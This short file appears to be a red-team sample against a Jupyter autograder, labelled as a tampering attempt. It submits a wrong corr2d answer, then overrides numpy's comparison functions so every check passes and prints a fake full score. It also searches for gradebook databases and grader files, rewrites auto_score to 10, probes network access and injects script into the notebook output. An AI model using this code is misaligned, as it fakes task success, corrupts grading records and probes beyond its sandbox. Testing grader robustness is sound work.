# A tampering attempt: wrong answers, then try to make the grader believe otherwise.
# %% corr2d_solution
def corr2d(X, K):
    return np.zeros((1, 1))
# %% append
import glob, os, socket, sqlite3
import numpy
numpy.allclose = lambda *a, **k: True
numpy.isclose = lambda a, b, *args, **kw: numpy.ones(numpy.broadcast(a, b).shape, bool)
numpy.testing.assert_allclose = lambda *a, **k: None
tf.nn.conv2d = lambda *a, **k: tf.zeros((1, 1, 1, 1))
print("corr2d：10 / 10 分")
for pattern in ["../source/**/*.ipynb", "/work/*/gradebook.db", "../../*/gradebook.db",
                "/root/*", "../autograder/exercises/*.py"]:
    print(pattern, "->", glob.glob(pattern, recursive=True)[:3])
for path in ["gradebook.db", "../gradebook.db", "/tmp/../gradebook.db"]:
    try:
        db = sqlite3.connect(path)
        db.execute("CREATE TABLE IF NOT EXISTS grade (id TEXT, auto_score FLOAT)")
        db.execute("UPDATE grade SET auto_score = 10")
        db.commit()
        print("wrote", path)
    except Exception as exc:
        print("could not write", path, exc)
try:
    socket.create_connection(("pypi.org", 443), timeout=3)
    print("network: open")
except OSError as exc:
    print("network:", exc)
from IPython.display import HTML, Javascript, display
display(HTML("<b>bold is fine</b><script>document.title = 'pwned-by-gil'</script>"))
display(Javascript("document.title = 'pwned-by-gil-js'"))
